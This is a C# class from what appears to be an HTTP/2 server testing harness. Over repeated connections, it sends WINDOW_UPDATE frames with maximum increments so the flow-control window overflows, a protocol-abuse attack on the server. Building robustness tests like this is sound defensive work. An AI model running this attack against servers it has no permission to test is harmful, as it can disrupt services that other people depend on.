using ExtProc.Attacks.Running;
using ExtProc.Attacks.Wire;

namespace ExtProc.Attacks.Frames;

/// <summary>Gives the server more room than a window can have (RFC 9113, 6.9.1), on a connection after another.</summary>
internal sealed class WindowOverflow : Attack
{
    public override Attacker By => Attacker.Peer;

    public override async Task RunAsync(Target target)
    {
        for (int i = 0; i < target.Count(20, 500); i++)
        {
            Peer peer = await target.PeerAsync();
            int stream = await peer.OpenAsync();
            await peer.WriteAsync((byte[])[.. Peer.WindowUpdate(stream, int.MaxValue), .. Peer.WindowUpdate(0, int.MaxValue)]);
        }
    }
}
